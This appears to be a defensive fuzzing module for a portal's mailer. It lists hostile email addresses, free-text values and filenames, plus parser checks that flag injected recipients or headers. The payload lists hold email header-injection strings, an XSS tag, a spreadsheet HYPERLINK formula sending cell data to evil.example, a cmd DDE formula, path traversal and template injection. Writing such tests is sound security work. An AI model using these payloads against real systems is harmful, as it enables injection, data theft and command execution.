"""Hostile inputs, and the checks that say whether an email sent after them is still honest.

Used by `make fuzz-hostile` (devtools/fuzz_hostile.py, against the `make run` stack) and importable by unit
tests. Each payload has a short name, which is what summaries and reports print (the values themselves hold
control characters and megabytes).

An email is honest when it goes only to an address the code meant (an address somebody submitted, in its
normalised form, or a member's), has no Cc or Bcc, and carries only headers the mailer writes: a client's text
that reaches a header line can add a recipient (header injection)."""
import email
import email.policy
import email.utils

# --- payloads ----------------------------------------------------------------------------------------------------

# Email addresses a client can type into the portal (or an admin into a member or dossier).
ADDRESSES: list[tuple[str, str]] = [
    # RFC 2047 encoded words: a mail library that decodes them while re-folding writes the decoded CR/LF.
    ("encoded-word-local-newline", "=?utf-8?q?=0a?=@evil.example"),
    ("encoded-word-local-bcc", "a=?utf-8?q?=0abcc=3a_x=40evil.example=0ax=3a?=@evil.example"),
    ("encoded-word-base64-bcc", "=?utf-8?b?CmJjYzogeEBldmlsLmV4YW1wbGUK?=@evil.example"),
    ("encoded-word-domain", "a@=?utf-8?q?evil=0abcc=3a_x=40evil.example?=.example"),
    # raw control characters
    ("crlf-bcc", "a@example.com\r\nBcc: x@evil.example"),
    ("lf-bcc", "a@example.com\nbcc: x@evil.example"),
    ("cr-only", "a@example.com\rCc: x@evil.example"),
    ("nul-local", "a\x00b@example.com"),
    ("nul-after", "a@example.com\x00x@evil.example"),
    ("tab-inside", "a\t@example.com"),
    # quoted local parts
    ("quoted-crlf-bcc", '"a\r\nbcc: x@evil"@example.com'),
    ("quoted-space", '"a b"@example.com'),
    ("quoted-comma", '"a,x@evil.example"@example.com'),
    ("quoted-angle", '"<x@evil.example>"@example.com'),
    # display names, lists, comments, routes
    ("display-name", "Eve <eve@evil.example>"),
    ("display-name-quoted", '"Alice" <alice@example.com>, x@evil.example'),
    ("comma-list", "a@example.com,x@evil.example"),
    ("comma-space-list", "a@example.com, x@evil.example"),
    ("semicolon-list", "a@example.com;x@evil.example"),
    ("group-syntax", "undisclosed:x@evil.example;"),
    ("comment", "a(x@evil.example)@example.com"),
    ("source-route", "@evil.example:a@example.com"),
    # unicode
    ("non-ascii-local", "jöhn@example.fr"),
    ("idn-domain", "a@exämple.fr"),
    ("bidi-override-local", "a\u202egro.live@example.com"),
    ("zero-width-local", "a\u200bb@example.com"),
    ("fullwidth-at", "a\uff20evil.example"),
    # size and shape
    ("long-local-64", "a" * 64 + "@example.com"),
    ("long-local-65", "a" * 65 + "@example.com"),
    ("long-address-254", "b" * 64 + "@" + "c" * 63 + "." + "d" * 63 + "." + "e" * 53 + ".example"),
    ("long-address-huge", "c" * 5000 + "@example.com"),
    ("plus-tag", "alice+gdpr@example.com"),
    ("upper-case", "ALICE.Upper@EXAMPLE.COM"),
    ("surrounding-spaces", "  bob.spaces@example.com  "),
    ("ip-literal", "a@[127.0.0.1]"),
    ("localhost", "a@localhost"),
]

# Free text that ends up in an email body or a page: portal messages, notes, reasons, titles, settings.
TEXTS: list[tuple[str, str]] = [
    ("crlf-bcc", "hello\r\nBcc: x@evil.example"),
    ("leading-crlf-bcc", "\r\nBcc: x@evil.example\r\n\r\nbody"),
    ("lf-headers", "x\nTo: x@evil.example\nSubject: owned"),
    ("nul", "a\x00b"),
    ("html-script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("formula", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("formula-plus", "+cmd|' /C calc'!A0"),
    ("bidi", "invoice\u202efdp.exe"),
    ("lone-surrogate", "\ud800"),
    ("encoded-word", "=?utf-8?q?=0aBcc=3a_x=40evil.example?="),
    ("jinja", "{{ 7*7 }}{% raw %}"),
    ("huge", "x" * 100_000),
    ("just-under-limit", "y" * 2000),
]

# Document filenames (the schema refuses '/', '\\' and C0 controls; what else gets through?).
FILENAMES: list[tuple[str, str]] = [
    ("bidi-override", "invoice\u202efdp.exe"),
    ("zero-width", "id\u200b.pdf"),
    ("control-del", "id\x7f.pdf"),
    ("c1-control", "id\x85.pdf"),
    ("newline", "id\r\n.pdf"),
    ("nul", "id\x00.pdf"),
    ("slash", "../../etc/passwd"),
    ("backslash", "..\\..\\boot.ini"),
    ("dot-dot", ".."),
    ("dot", "."),
    ("header-like", "a.pdf\"; filename=\"evil.exe"),
    ("huge", "f" * 300),
    ("lone-surrogate", "\udfff.pdf"),
]


# --- what an honest email looks like -----------------------------------------------------------------------------

# chalicelib/mailer.py writes From, To and Subject; EmailMessage adds MIME-Version and Content-Type (and the
# encoding on parts). Date and Message-ID are standard and harmless if the mailer starts to write them.
MAILER_HEADERS = frozenset(h.lower() for h in (
    "From", "To", "Subject", "MIME-Version", "Content-Type", "Content-Transfer-Encoding", "Date", "Message-ID"))
RECIPIENT_HEADERS = ("to", "cc", "bcc", "resent-to", "resent-cc", "resent-bcc")


def normalised_forms(address: str) -> set[str]:
    """The forms the code may send to for a submitted address: trimmed and lower-cased, and email-validator's
    normalisation (Unicode NFC; IDNA domain) of it, lower-cased."""
    forms = {address.strip().lower()}
    try:
        from email_validator import validate_email

        valid = validate_email(address.strip(), check_deliverability=False)
        forms.add(valid.normalized.lower())
        if valid.ascii_email:
            forms.add(valid.ascii_email.lower())
    except Exception:  # noqa: BLE001 — not valid to the validator: only the trimmed form
        pass
    return forms


def header_names(raw: bytes) -> list[str]:
    """Top-level header names, as the plainest parser (compat32) sees them."""
    return [name for name, _ in email.message_from_bytes(raw).items()]


def header_recipients(raw: bytes) -> list[str]:
    """Every address in the top-level recipient headers, under both the compat32 and the modern parser, so
    an address that hides from one of them still counts."""
    found = []
    plain = email.message_from_bytes(raw)
    for name in RECIPIENT_HEADERS:
        for _display, addr in email.utils.getaddresses(plain.get_all(name, [])):
            found.append(addr)
    modern = email.message_from_bytes(raw, policy=email.policy.default)
    for name in RECIPIENT_HEADERS:
        for value in modern.get_all(name, []):
            try:
                found += [a.addr_spec for a in value.addresses]
            except Exception:  # noqa: BLE001 — an unparseable header: fall back to its text
                found.append(str(value))
    return found


def problems(raw: bytes, destinations: list[str], meant: set[str]) -> list[str]:
    """What is dishonest about one message SES accepted: [] when nothing is.

    `destinations` are the envelope recipients the code gave SES; `meant` the addresses it may send to
    (lower-case)."""
    found = []
    names = header_names(raw)
    extra = sorted({n for n in names if n.lower() not in MAILER_HEADERS})
    if extra:
        found.append(f"extra header {', '.join(extra)}")
    for name in ("cc", "bcc"):
        if any(n.lower() == name for n in names):
            found.append(f"has a {name.capitalize()} header")
    strangers = sorted({a for a in header_recipients(raw) if a.lower() not in meant})
    for addr in strangers:
        if "=?" in addr:
            found.append(f"a recipient address holds an RFC 2047 encoded word: {addr!r}")
        else:
            found.append(f"extra recipient in the headers: {addr!r}")
    for addr in sorted(set(destinations)):
        if addr.lower() not in meant and addr not in strangers:  # moto adds the headers' recipients here too
            found.append(f"extra envelope recipient: {addr!r}")
    return found
